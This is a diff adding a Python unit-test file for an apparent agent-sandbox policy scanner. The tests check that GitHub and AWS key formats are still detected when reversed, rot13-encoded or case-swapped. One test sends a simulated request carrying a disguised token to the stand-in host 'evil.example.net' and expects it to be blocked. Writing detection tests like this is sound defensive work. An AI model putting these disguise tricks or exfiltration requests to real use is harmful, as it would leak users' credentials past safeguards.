@@ -1,0 +1,59 @@
+"""Credential formats written backwards, in rot13 or in another case are still found."""
+
+from __future__ import annotations
+
+import codecs
+import json
+
+import pytest
+
+from agentcage.policy.formats.builtin import BUILTIN_PATTERNS
+from agentcage.policy.formats.scanner import PatternScanner
+from agentcage.policy.types import Verdict
+from tests.unit.policy.helpers import ALNUM, fake, policy, request
+
+GITHUB = "gh" + "p_" + fake(ALNUM, 36)
+AWS = "AK" + "IA" + "QWERTYUIOP234567"
+OPEN = {"domains": {"mode": "blocklist", "list": []}, "entropy": False, "content_type": False}
+SCANNER = PatternScanner(BUILTIN_PATTERNS)
+
+DISGUISES = {
+    "reversed": lambda v: v[::-1],
+    "rot13": lambda v: codecs.encode(v, "rot13"),
+    "case-changed": str.swapcase,
+}
+
+
+def _found(text: str) -> list[tuple[str, str]]:
+    return [(p.name, how) for p, how in SCANNER.matches(json.dumps({"v": text}).encode())]
+
+
+@pytest.mark.parametrize("how", sorted(DISGUISES))
+@pytest.mark.parametrize(("value", "name"), [(GITHUB, "github_token"), (AWS, "aws_access_key_id")])
+def test_a_disguised_key_is_found_and_named(how: str, value: str, name: str) -> None:
+    assert _found(DISGUISES[how](value)) == [(name, how)]
+
+
+def test_a_lower_cased_aws_key_is_found_case_insensitively() -> None:
+    assert _found(AWS.lower()) == [("aws_access_key_id", "case-changed")]
+
+
+def test_the_disguise_is_named_in_the_block_reason() -> None:
+    engine = policy(**OPEN)
+    body = json.dumps({"t": GITHUB[::-1]}).encode()
+    decision = engine.check_request(request("evil.example.net", body=body))
+    assert decision.verdict is Verdict.BLOCK
+    assert "github_token (reversed)" in decision.reason
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "see the _phg prefix of classic GitHub tokens, reversed, in this sentence",
+        "Slovakia" + "x" * 30,  # a case variant of AKIA inside a longer word
+        "AIKA" + "Q" * 40,  # AKIA reversed, but too long a run to be a key
+        "tuc_shortvalue",  # rot13 of ghp_ with too short a body
+    ],
+)
+def test_disguised_anchors_without_a_key_are_near_misses(text: str) -> None:
+    assert _found(text) == []
